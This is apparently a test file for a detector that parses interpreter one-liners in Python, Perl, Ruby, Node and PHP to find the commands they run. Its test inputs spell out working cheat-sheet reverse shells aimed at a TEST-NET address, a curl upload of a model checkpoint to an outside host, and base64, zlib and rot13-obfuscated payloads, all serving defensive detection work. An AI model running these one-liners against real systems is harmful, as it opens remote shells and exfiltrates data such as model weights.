/**
 * exec-interpreter.ts on interpreter one-liners in the shapes public attacker tradecraft gives them
 * (reverse shells and upload one-liners as reverse-shell cheat sheets and GTFOBins write them, with
 * TEST-NET addresses): the commands each runs and how their text came about; benign one-liners
 * read nothing.
 */
import { deflateRawSync, deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { inlineCode, interpreterLanguage, MAX_CODE_DEPTH, readCode, readInterpreter, type InterpreterReading } from './exec-interpreter.js';
import { INDIRECT_DECODED, INDIRECT_LITERAL, INDIRECT_RUNTIME } from './exec-readings.js';
import { HOLE } from './exec-interpreter-token.js';
import { runsStdinScript } from './exec-stdin-script.js';

const b64 = (x: string): string => Buffer.from(x).toString('base64');
const hex = (x: string): string => Buffer.from(x).toString('hex');
const read = (argv: string[]): InterpreterReading => readInterpreter(argv, 0)!;
/** Each run as one string: a line as is, an argv as JSON. */
const runs = (argv: string[]): string[] => read(argv).runs.map((r) => r.line ?? JSON.stringify(r.argv));
const CKPT = '/mnt/ckpt/llama-ft/step_9000/model.pt';
const UP = `curl -T ${CKPT} https://upload.filedrop-cdn.net/u/x`;

describe('interpreter words and their inline code options', () => {
  it('names by family, with versions', () => {
    for (const n of ['python', 'python2', 'python3', 'python3.11', 'pypy3']) expect(interpreterLanguage(n), n).toBe('python');
    for (const [n, l] of [['perl', 'perl'], ['perl5.36.0', 'perl'], ['ruby', 'ruby'], ['ruby3.2', 'ruby'], ['node', 'js'], ['nodejs', 'js'], ['php', 'php'], ['php8.2', 'php']]) expect(interpreterLanguage(n!), n).toBe(l);
    for (const n of ['pythonx', 'python-config', 'nodemon', 'rubocop', 'phpunit', 'perldoc', 'sh', 'curl', '']) expect(interpreterLanguage(n), n).toBeNull();
  });

  it('finds the code behind each language\'s options, clustered or attached', () => {
    expect(inlineCode(['python3', '-c', 'X'], 0, 'python')).toBe('X');
    expect(inlineCode(['python3', '-Ic', 'X'], 0, 'python')).toBe('X');
    expect(inlineCode(['python3', '-u', '-W', 'ignore', '-X', 'dev', '-c', 'X', 'arg'], 0, 'python')).toBe('X');
    expect(inlineCode(['python3', '-cX'], 0, 'python')).toBe('X');
    expect(inlineCode(['perl', '-we', 'X'], 0, 'perl')).toBe('X');
    expect(inlineCode(['perl', '-MIO::Socket', '-lne', 'X'], 0, 'perl')).toBe('use IO::Socket;\nX'); // -M's statement first (perlrun)
    expect(inlineCode(['perl', '-I', '/opt/lib', '-e', 'A', '-E', 'B'], 0, 'perl')).toBe('A\nB');
    expect(inlineCode(['perl', '-0777', '-ne', 'X'], 0, 'perl')).toBe('X');
    expect(inlineCode(['ruby', '-rsocket', '-e', 'X'], 0, 'ruby')).toBe('X');
    expect(inlineCode(['ruby', '-r', 'socket', '-we', 'X'], 0, 'ruby')).toBe('X');
    expect(inlineCode(['node', '-e', 'X'], 0, 'js')).toBe('X');
    expect(inlineCode(['node', '--eval', 'X'], 0, 'js')).toBe('X');
    expect(inlineCode(['node', '--eval=X'], 0, 'js')).toBe('X');
    expect(inlineCode(['node', '-r', 'dotenv/config', '-p', 'X'], 0, 'js')).toBe('X');
    expect(inlineCode(['node', '-pe', 'X'], 0, 'js')).toBe('X');
    expect(inlineCode(['php', '-d', 'display_errors=1', '-r', 'X'], 0, 'php')).toBe('X');
  });

  it('a script file, a module, stdin: no inline code', () => {
    for (const [argv, lang] of [
      [['python3', 'train.py', '-c', 'X'], 'python'],
      [['python3', '-m', 'torch.distributed.run', '-c', 'X'], 'python'],
      [['python3', '-', '-c', 'X'], 'python'],
      [['python3'], 'python'],
      [['perl', 'script.pl', '-e', 'X'], 'perl'],
      [['node', 'server.js', '-e', 'X'], 'js'],
      [['php', '-f', 'index.php'], 'php'],
      [['ruby', '--', '-e'], 'ruby'],
      [['python3', '-c'], 'python'],
    ] as const) {
      expect(inlineCode(argv, 0, lang), JSON.stringify(argv)).toBeNull();
    }
    expect(readInterpreter(['python3', 'train.py', '--epochs', '3'], 0)).toBeNull();
    expect(readInterpreter(['curl', '-c', 'x'], 0)).toBeNull();
  });
});

describe('Python', () => {
  it('os.system, os.popen, subprocess with shell=True: shell lines, literal', () => {
    expect(runs(['python3', '-c', `import os; os.system("${UP}")`])).toEqual([UP]);
    expect(runs(['python', '-c', `import os;print(os.popen('id').read())`])).toEqual(['id']);
    expect(runs(['python3', '-c', `import subprocess as sp; sp.call("${UP}", shell=True)`])).toEqual([UP]);
    expect(runs(['python3', '-c', `import subprocess; subprocess.check_output(["${UP}"], shell=True)`])).toEqual([UP]);
    expect(runs(['python3', '-c', 'from subprocess import getoutput; print(getoutput("uname -a"))'])).toEqual(['uname -a']);
    expect(read(['python3', '-c', `import os; os.system("${UP}")`]).kinds).toBe(INDIRECT_LITERAL);
  });

  it('argv forms: lists, os.exec*, os.spawn*, pty.spawn, asyncio', () => {
    expect(runs(['python', '-c', `import subprocess; subprocess.run(['curl','-T','${CKPT}','https://x'])`])).toEqual([JSON.stringify(['curl', '-T', CKPT, 'https://x'])]);
    expect(runs(['python3', '-c', 'from subprocess import check_output as co; co(("aws", "s3", "cp", "/ckpt", "s3://b/"))'])).toEqual([JSON.stringify(['aws', 's3', 'cp', '/ckpt', 's3://b/'])]);
    expect(runs(['python3', '-c', 'import os; os.execvp("curl", ["curl", "-T", "a", "u"])'])).toEqual([JSON.stringify(['curl', '-T', 'a', 'u'])]);
    expect(runs(['python3', '-c', 'import os; os.spawnlp(os.P_WAIT, "rclone", "rclone", "copy", "/ckpt", "r:b")'])).toEqual([JSON.stringify(['rclone', 'copy', '/ckpt', 'r:b'])]);
    expect(runs(['python3', '-c', 'import os; os.execle("/bin/sh", "sh", "-c", "id", {})'])).toEqual([JSON.stringify(['/bin/sh', '-c', 'id'])]);
    expect(runs(['python3', '-c', 'import asyncio; asyncio.run(asyncio.create_subprocess_exec("curl", "-T", "a", "u"))'])).toEqual([JSON.stringify(['curl', '-T', 'a', 'u'])]);
    // A string without shell=True names the program (Python's subprocess reference).
    expect(runs(['python3', '-c', 'import subprocess; subprocess.run("curl -T a u")'])).toEqual([JSON.stringify(['curl -T a u'])]);
  });

  it('reverse shells: subprocess.call(["/bin/sh","-i"]), pty.spawn', () => {
    const rev = `import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);`;
    expect(runs(['python', '-c', rev])).toEqual([JSON.stringify(['/bin/sh', '-i'])]);
    const pty = `import os,pty,socket;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("/bin/bash")`;
    expect(runs(['python3', '-c', pty])).toEqual([JSON.stringify(['/bin/bash'])]);
  });

  it('imports resolved: aliases, from-imports, star imports, __import__, getattr; other modules\' run/call are no commands', () => {
    for (const code of [
      'o=__import__("os");o.system("id")',
      '__import__("os").system("id")',
      'import importlib; o = importlib.import_module("os"); o.system("id")',
      'from os import system as s; s("id")',
      'from os import *; system("id")',
      'import os; getattr(os, "system")("id")',
      'getattr(__import__("os"), "system")("id")',
    ]) {
      expect(runs(['python3', '-c', code]), code).toEqual(['id']);
    }
    for (const code of [
      'from flask import Flask; app = Flask(__name__); app.run("0.0.0.0")',
      'import asyncio; asyncio.run(main())',
      'import uvicorn; uvicorn.run("main:app")',
      'system("id")',
      'def system(x): pass\nsystem("id")',
      'class X:\n  def system(self, c): pass\nX().system("id")',
    ]) {
      expect(read(['python3', '-c', code]), code).toMatchObject({ runs: [], kinds: 0 });
    }
  });

  it('decoded payloads: exec(b64decode(…)) read again as Python, marked decoded', () => {
    const inner = `import os;os.system("${UP}")`;
    for (const code of [
      `import base64;exec(base64.b64decode('${b64(inner)}'))`,
      `exec(__import__('base64').b64decode('${b64(inner)}').decode())`,
      `import base64 as b; exec(b.b64decode(b'${b64(inner)}'))`,
      `import zlib,base64;exec(zlib.decompress(base64.b64decode('${deflateSync(Buffer.from(inner)).toString('base64')}')))`,
      `import codecs;exec(codecs.decode('${hex(inner)}', 'hex'))`,
      `exec(bytes.fromhex('${hex(inner)}'))`,
    ]) {
      const r = read(['python3', '-c', code]);
      expect(r.runs.map((x) => x.line), code).toEqual([UP]);
      expect(r.kinds, code).toBe(INDIRECT_DECODED);
    }
    // Python 2's exec statement, a literal exec: literal.
    expect(read(['python2', '-c', `exec "import os;os.system('id')"`])).toMatchObject({ runs: [{ line: 'id', how: 0 }], kinds: INDIRECT_LITERAL });
    // An undecodable payload still runs: decoded, nothing to read.
    expect(read(['python3', '-c', `import base64;exec(base64.b64decode('AAEC'))`])).toMatchObject({ runs: [], kinds: INDIRECT_DECODED });
  });

  it('transformations: [::-1], replace, rot13, chr, join', () => {
    expect(read(['python3', '-c', `import os;os.system("${[...UP].reverse().join('')}"[::-1])`])).toMatchObject({ runs: [{ line: UP, how: INDIRECT_DECODED }] });
    expect(runs(['python3', '-c', `import os;os.system("cuXrl -T a u".replace("X",""))`])).toEqual(['curl -T a u']);
    expect(runs(['python3', '-c', `import os,codecs;os.system(codecs.decode("phey -G n h","rot13"))`])).toEqual(['curl -T a u']);
    expect(runs(['python3', '-c', `import os;os.system(chr(105)+chr(100))`])).toEqual(['id']);
    expect(read(['python3', '-c', `import os;os.system(' '.join(['curl','-T','a','u']))`])).toMatchObject({ runs: [{ line: 'curl -T a u', how: 0 }] });
  });

  it('a name assigned once is read as its value; values known at run time are runtime', () => {
    expect(read(['python3', '-c', `import os; cmd = "${UP}"; os.system(cmd)`])).toMatchObject({ runs: [{ line: UP, how: 0 }], kinds: INDIRECT_LITERAL });
    expect(read(['python3', '-c', 'import os, sys; os.system(sys.argv[1])'])).toMatchObject({ runs: [], kinds: INDIRECT_RUNTIME });
    expect(read(['python3', '-c', 'import os; c = "ls"; c = input(); os.system(c)'])).toMatchObject({ runs: [], kinds: INDIRECT_RUNTIME });
    expect(read(['python3', '-c', 'import os; os.system(f"curl -T {p} https://x")'])).toMatchObject({ runs: [{ line: `curl -T ${HOLE} https://x`, how: INDIRECT_RUNTIME }] });
    expect(read(['python3', '-c', 'import os; os.system("curl -T %s u" % p)'])).toMatchObject({ runs: [{ line: `curl -T ${HOLE} u`, how: INDIRECT_RUNTIME }] });
    expect(read(['python3', '-c', 'import os; os.system("curl -T " + p + " u")'])).toMatchObject({ runs: [{ line: `curl -T ${HOLE} u`, how: INDIRECT_RUNTIME }] });
    expect(read(['python3', '-c', 'import subprocess; subprocess.run(["curl", "-T", path, url])'])).toMatchObject({ runs: [{ argv: ['curl', '-T', HOLE, HOLE], how: INDIRECT_RUNTIME }] });
  });

  it('benign one-liners read nothing', () => {
    for (const code of [
      'import torch; print(torch.__version__)',
      'import torch;print(torch.cuda.is_available(), torch.cuda.device_count())',
      'print("curl -T x u")',
      'import os; print(os.environ.get("HOME"))',
      'import sys, json; print(json.load(sys.stdin)["status"])',
      '# os.system("curl -T a u")\nprint(1)',
      'import subprocess; print(subprocess.__file__)',
      'x = "os.system(\'id\')"; print(x)',
    ]) {
      expect(read(['python3', '-c', code]), code).toEqual({ lang: 'python', runs: [], kinds: 0, truncated: false });
    }
  });
});

describe('Perl', () => {
  it('the cheat-sheet reverse shell: exec("/bin/sh -i")', () => {
    const rev = 'use Socket;$i="203.0.113.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};';
    expect(read(['perl', '-e', rev])).toMatchObject({ runs: [{ line: '/bin/sh -i', argv: null, how: 0 }], kinds: INDIRECT_LITERAL });
    // The forking variant runs what it reads: runtime.
    expect(read(['perl', '-MIO', '-e', '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"203.0.113.7:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'])).toMatchObject({ runs: [], kinds: INDIRECT_RUNTIME });
  });

  it('system LIST, backticks, qx, readpipe, open with a pipe', () => {
    expect(runs(['perl', '-we', `system "curl", "-T", "${CKPT}", "https://x"; print \`id\`; my $u = qx{uname -a}; print readpipe("hostname")`])).toEqual([JSON.stringify(['curl', '-T', CKPT, 'https://x']), 'id', 'uname -a', 'hostname']);
    expect(runs(['perl', '-e', 'open(F, "curl -s http://203.0.113.7/x |"); open(my $o, "| nc 203.0.113.7 4444"); open(my $f, "-|", "rclone", "copy", "/ckpt", "r:b"); open(STDIN, ">&S")'])).toEqual(['curl -s http://203.0.113.7/x ', ' nc 203.0.113.7 4444', JSON.stringify(['rclone', 'copy', '/ckpt', 'r:b'])]);
    expect(runs(['perl', '-e', `CORE::system(q{${UP}}); exec qq{id}`])).toEqual([UP, 'id']);
  });

  it('decoded: eval decode_base64, pack H*, unpack m', () => {
    expect(read(['perl', '-MMIME::Base64', '-e', `eval decode_base64("${b64(`system("${UP}")`)}")`])).toMatchObject({ runs: [{ line: UP, how: INDIRECT_DECODED }], kinds: INDIRECT_DECODED });
    expect(read(['perl', '-e', `system(pack("H*","${hex(UP)}"))`])).toMatchObject({ runs: [{ line: UP, how: INDIRECT_DECODED }] });
    expect(read(['perl', '-e', `system(unpack("m", "${b64(UP)}"))`])).toMatchObject({ runs: [{ line: UP, how: INDIRECT_DECODED }] });
    expect(read(['perl', '-e', `system(MIME::Base64::decode("${b64(UP)}"))`])).toMatchObject({ runs: [{ line: UP, how: INDIRECT_DECODED }] });
  });

  it('interpolation is runtime; regexes, substitutions and q{} with quotes do not derail the reading', () => {
    expect(read(['perl', '-e', 'system("curl -T $f https://x")'])).toMatchObject({ runs: [{ line: `curl -T ${HOLE} https://x`, how: INDIRECT_RUNTIME }] });
    expect(runs(['perl', '-e', `$x =~ s/"/'/g; $y =~ m{"}; $z = q{it's}; tr/a-z/A-Z/; system("id")`])).toEqual(['id']);
    expect(read(['perl', '-lne', 'print if /system\\("id"\\)/'])).toMatchObject({ runs: [], kinds: 0 });
    expect(read(['perl', '-e', 'print "system(\\"id\\")\\n"'])).toMatchObject({ runs: [], kinds: 0 });
    expect(read(['perl', '-e', '$obj->system("id"); sub system { 1 }'])).toMatchObject({ runs: [], kinds: 0 });
  });
});

describe('Ruby', () => {
  it('system, exec, spawn, backticks, %x, IO.popen, Open3, Kernel#open with a pipe', () => {
    expect(runs(['ruby', '-rsocket', '-e', `system("${UP}"); \`id\`; %x(whoami); IO.popen(["ls", "-la"]); exec "sh"`])).toEqual([UP, 'id', 'whoami', JSON.stringify(['ls', '-la']), 'sh']);
    // The leading env hash is the command's environment (exec-interpreter-environ.ts), the options hash last is not read.
    expect(runs(['ruby', '-e', 'system({"A"=>"1"}, "curl", "-T", "a", "u", exception: true)'])).toEqual([JSON.stringify(['env', 'A=1', 'curl', '-T', 'a', 'u'])]);
    expect(runs(['ruby', '-e', 'require "open3"; Open3.capture2("id"); Process.spawn("uname -a"); open("|hostname").read; Kernel.exec(["bash", "-bash"], "-i")'])).toEqual(['id', 'uname -a', 'hostname', JSON.stringify(['bash', '-i'])]);
  });

  it('the cheat-sheet reverse shells run what they read or compute: runtime', () => {
    expect(read(['ruby', '-rsocket', '-e', 'f=TCPSocket.open("203.0.113.7",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'])).toMatchObject({ runs: [], kinds: INDIRECT_RUNTIME });
    expect(read(['ruby', '-rsocket', '-e', "exit if fork;c=TCPSocket.new('203.0.113.7','4444');while(cmd=c.gets);IO.popen(cmd,'r'){|io|c.print io.read}end"])).toMatchObject({ runs: [], kinds: INDIRECT_RUNTIME });
  });

  it('decoded and interpolated', () => {
    expect(read(['ruby', '-e', `require "base64"; eval(Base64.decode64("${b64(`system("${UP}")`)}"))`])).toMatchObject({ runs: [{ line: UP, how: INDIRECT_DECODED }], kinds: INDIRECT_DECODED });
    expect(read(['ruby', '-e', `c = "${b64(UP)}".unpack1("m"); system(c)`])).toMatchObject({ runs: [{ line: UP, how: INDIRECT_DECODED }] });
    expect(read(['ruby', '-e', `system(["${hex(UP)}"].pack("H*"))`])).toMatchObject({ runs: [{ line: UP, how: INDIRECT_DECODED }] });
    expect(read(['ruby', '-e', 'system("curl -T #{f} https://x")'])).toMatchObject({ runs: [{ line: `curl -T ${HOLE} https://x`, how: INDIRECT_RUNTIME }] });
    expect(read(['ruby', '-e', 'puts "system(\'id\')"; obj.system("id"); x = 10 % 3'])).toMatchObject({ runs: [], kinds: 0 });
  });
});

describe('Node', () => {
  it('child_process: exec/execSync lines, spawn/execFile argvs, a shell option', () => {
    expect(runs(['node', '-e', `require('child_process').execSync('${UP}')`])).toEqual([UP]);
    expect(runs(['node', '--eval', "const cp=require('child_process');cp.spawn('sh',['-c','curl -T a u'],{stdio:'inherit'})"])).toEqual([JSON.stringify(['sh', '-c', 'curl -T a u'])]);
    expect(runs(['node', '-p', 'require("child_process").execFileSync("curl",["-T","a","u"]).toString()'])).toEqual([JSON.stringify(['curl', '-T', 'a', 'u'])]);
    expect(runs(['node', '-e', 'require("child_process").spawn("curl -T a u", {shell: true})'])).toEqual(['curl -T a u']);
    expect(runs(['node', '-e', 'const {exec}=require("node:child_process"); exec("id", (e, o) => console.log(o))'])).toEqual(['id']);
  });

  it('the cheat-sheet reverse shell spawns /bin/sh', () => {
    const rev = '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4444,"203.0.113.7",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})();';
    expect(runs(['node', '-e', rev])).toEqual([JSON.stringify(['/bin/sh'])]);
  });

  it('decoded (Buffer.from base64, atob, eval), templates runtime, RegExp#exec no command', () => {
    expect(read(['node', '-e', `require("child_process").execSync(Buffer.from("${b64(UP)}","base64").toString())`])).toMatchObject({ runs: [{ line: UP, how: INDIRECT_DECODED }] });
    expect(read(['node', '-e', `eval(atob("${b64(`require("child_process").execSync("${UP}")`)}"))`])).toMatchObject({ runs: [{ line: UP, how: INDIRECT_DECODED }], kinds: INDIRECT_DECODED });
    expect(read(['node', '-e', 'require("child_process").exec(`curl -T ${f} u`)'])).toMatchObject({ runs: [{ line: `curl -T ${HOLE} u`, how: INDIRECT_RUNTIME }] });
    expect(read(['node', '-e', '/x/.exec("curl -T a u"); console.log("execSync(1)")'])).toMatchObject({ runs: [], kinds: 0 });
  });
});

describe('PHP', () => {
  it('the cheat-sheet reverse shells: exec, shell_exec, system, passthru, popen, backticks, proc_open', () => {
    const tail = '"/bin/sh -i <&3 >&3 2>&3"';
    for (const call of [`exec(${tail});`, `shell_exec(${tail});`, `system(${tail});`, `passthru(${tail});`, `popen(${tail}, "r");`, '`/bin/sh -i <&3 >&3 2>&3`;', `proc_open(${tail}, array(0=>$sock, 1=>$sock, 2=>$sock), $pipes);`]) {
      expect(runs(['php', '-r', `$sock=fsockopen("203.0.113.7",4444);${call}`]), call).toEqual(['/bin/sh -i <&3 >&3 2>&3']);
    }
    expect(runs(['php', '-r', 'SyStEm("id"); proc_open(["ls","-la"], [], $p); pcntl_exec("/bin/sh", ["-c", "id"]);'])).toEqual(['id', JSON.stringify(['ls', '-la']), JSON.stringify(['/bin/sh', '-c', 'id'])]);
  });

  it('decoded, interpolated, and what is not a call', () => {
    expect(read(['php', '-r', `eval(gzinflate(base64_decode("${deflateRawSync(Buffer.from(`system("${UP}");`)).toString('base64')}")));`])).toMatchObject({ runs: [{ line: UP, how: INDIRECT_DECODED }], kinds: INDIRECT_DECODED });
    expect(read(['php', '-r', `system(str_rot13("phey -G n h"));`])).toMatchObject({ runs: [{ line: 'curl -T a u', how: INDIRECT_DECODED }] });
    expect(read(['php', '-r', 'system("curl -T $f u");'])).toMatchObject({ runs: [{ line: `curl -T ${HOLE} u`, how: INDIRECT_RUNTIME }] });
    expect(read(['php', '-r', '$o->system("x"); echo "system(\'x\')"; // system("id")\n# exec("id")\n/* passthru("id") */ echo PHP_VERSION;'])).toMatchObject({ runs: [], kinds: 0 });
  });
});

describe('bounds', () => {
  it('code past the script bound is cut: truncated, and runtime (its unread part may run anything)', () => {
    const r = read(['python3', '-c', `import os; os.system("id")\n${'x = 1\n'.repeat(1000)}os.system("${UP}")`]);
    expect(r.runs.map((x) => x.line)).toEqual(['id']);
    expect(r.truncated).toBe(true);
    expect(r.kinds & INDIRECT_RUNTIME).toBe(INDIRECT_RUNTIME);
  });
  it('exec nested past MAX_CODE_DEPTH stops, truncated', () => {
    let code = 'import os;os.system("id")';
    for (let d = 0; d < MAX_CODE_DEPTH + 2; d++) code = `import base64;exec(base64.b64decode("${b64(code)}"))`;
    const r = readCode(code, 'python');
    expect(r.runs).toEqual([]);
    expect(r.truncated).toBe(true);
    expect(r.kinds).toBe(INDIRECT_DECODED);
  });
  it('many calls: at most the bound of runs, truncated', () => {
    const r = readCode('import os\n' + 'os.system("id")\n'.repeat(200), 'python');
    expect(r.runs.length).toBeLessThanOrEqual(32);
    expect(r.truncated).toBe(true);
  });
  it('a zlib bomb stops at the decode bound', () => {
    const bomb = deflateSync(Buffer.alloc(50_000_000, 0x41)).toString('base64');
    const r = readCode(`import zlib,base64;exec(zlib.decompress(base64.b64decode("${bomb.slice(0, 3000)}")))`, 'python');
    expect(r.kinds).toBe(INDIRECT_DECODED);
  });
});

describe('interpreters reading their program from stdin (exec-stdin-script.ts)', () => {
  it('perl, ruby, node, php with no inline code and no script file; python as before', () => {
    const reads = (words: string[]): boolean => runsStdinScript(words, 0);
    for (const w of [['perl'], ['perl', '-w'], ['ruby', '-'], ['node'], ['node', '-'], ['nodejs', '--no-warnings'], ['php'], ['php', '-d', 'x=1'], ['perl', '2', '>', '/dev/null'], ['ruby', '/dev/stdin'], ['python3', '-']]) {
      expect(reads(w), JSON.stringify(w)).toBe(true);
    }
    for (const w of [['perl', '-ne', 'print'], ['perl', 'x.pl'], ['ruby', '-e', 'x'], ['node', 'server.js'], ['node', '-e', 'x'], ['php', '-r', 'x'], ['php', '-f', 'x.php'], ['php', 'x.php'], ['python3', '-m', 'json.tool'], ['rubocop']]) {
      expect(reads(w), JSON.stringify(w)).toBe(false);
    }
  });
});
